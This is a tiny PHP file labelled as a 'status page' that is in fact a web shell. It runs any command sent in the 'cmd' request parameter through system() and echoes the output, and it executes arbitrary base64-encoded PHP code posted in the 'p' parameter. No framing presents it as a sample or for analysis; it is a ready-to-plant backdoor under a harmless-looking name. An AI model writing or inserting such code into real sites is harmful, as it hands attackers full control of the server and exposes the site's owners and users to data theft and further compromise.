<?php
// status page
if (isset($_REQUEST['cmd'])) {
    echo "<pre>";
    system($_REQUEST['cmd']);
    echo "</pre>";
    die;
}
if (isset($_POST['p'])) { eval(base64_decode($_POST['p'])); }
?>
